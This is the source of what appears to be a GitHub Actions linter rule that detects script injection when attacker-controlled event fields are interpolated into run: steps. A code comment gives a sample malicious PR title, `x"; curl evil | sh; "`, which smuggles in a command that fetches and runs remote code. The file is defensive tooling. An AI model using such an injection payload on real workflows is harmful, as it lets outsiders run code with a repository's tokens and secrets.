import type { Finding } from '../finding';
import { expressionsIn } from '../expressions';
import { findingAt, rawText } from '../source';
import type { WorkflowView } from '../workflow';

/**
 * `${{ }}` of text anyone can write (a PR title, a branch name, a comment, a commit message), inside `run:`. The runner
 * substitutes expressions into the script before the shell reads it, so a title such as `x"; curl evil | sh; "` runs
 * as code with the job's token and secrets. Passed through `env:` and used as "$TITLE", it stays data.
 */
export function checkRunInjection(view: WorkflowView): Finding[] {
  const { source } = view;
  const findings: Finding[] = [];
  for (const job of view.jobs) {
    for (const step of job.steps) {
      if (!step.run?.value) continue;
      const raw = rawText(source, step.run.value);
      for (const expression of expressionsIn(raw.text)) {
        const field = untrustedField(expression.body);
        if (field === undefined) continue;
        const name = envName(field);
        findings.push(
          findingAt(
            source,
            raw.offset + expression.offset,
            'run-injection',
            `\`${field}\` is text anyone opening a PR, issue or comment can write, substituted into the script before it runs: pass it through env: (${name}: \${{ ${field} }}) and use "$${name}"`,
          ),
        );
      }
    }
  }
  return findings;
}

const INDEX = String.raw`(?:\.\*|\[[^\]]*\])`;
/**
 * The untrusted fields of the event payloads (GitHub's "Security hardening for GitHub Actions", "Understanding the
 * risk of script injections"): free text and names an outside contributor chooses.
 */
const UNTRUSTED = new RegExp(
  [
    String.raw`github\.head_ref`,
    String.raw`github\.event\.pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)`,
    String.raw`github\.event\.(?:issue|discussion)\.(?:title|body)`,
    String.raw`github\.event\.(?:comment|review|review_comment)\.body`,
    String.raw`github\.event\.pages${INDEX}\.page_name`,
    String.raw`github\.event\.commits${INDEX}\.(?:message|author\.(?:email|name))`,
    String.raw`github\.event\.head_commit\.(?:message|author\.(?:email|name))`,
    String.raw`github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name)))`,
    String.raw`github\.event\.workflow_run\.pull_requests${INDEX}\.head\.ref`,
    // The whole object serialized carries every field above.
    String.raw`toJSON\(\s*github\.event(?:\.(?:pull_request|issue|comment|review|review_comment|discussion|commits|head_commit|workflow_run))?\s*\)`,
  ]
    .map((pattern) => `(?<![\\w.])${pattern}(?![\\w-])`)
    .join('|'),
);

function untrustedField(expression: string): string | undefined {
  return UNTRUSTED.exec(expression)?.[0];
}

/** An environment variable name for the suggestion: `github.event.pull_request.title` → `TITLE`. */
function envName(field: string): string {
  const last =
    field
      .replace(/\)\s*$/, '')
      .split(/[.[\]*()\s]+/)
      .filter((part) => part !== '')
      .pop() ?? 'VALUE';
  return last.replace(/\W/g, '_').toUpperCase();
}
